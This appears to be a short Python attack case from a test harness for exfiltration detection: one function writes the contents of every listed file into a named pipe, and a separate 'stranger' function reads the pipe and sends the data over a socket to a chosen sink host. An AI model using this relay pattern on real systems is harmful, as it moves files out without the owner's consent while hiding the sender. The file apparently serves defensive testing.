# SPDX-License-Identifier: GPL-3.0-or-later
"""Through a FIFO to a service that has nothing to do with it, which sends."""
import os
import random
import socket

KIND = "attack"


def stranger(world):
    path = os.path.join(world["scratch"], "fifo")
    os.mkfifo(path)
    open(os.path.join(world["scratch"], "ready"), "w").close()
    with open(path, "rb") as fifo, socket.create_connection(random.Random(world["seed"]).choice(world["sinks"])) as sock:
        while data := fifo.read(65536):
            sock.sendall(data)


def product(world):
    with open(os.path.join(world["scratch"], "fifo"), "wb") as fifo:
        for path in world["files"]:
            with open(path, "rb") as file:
                fifo.write(file.read())
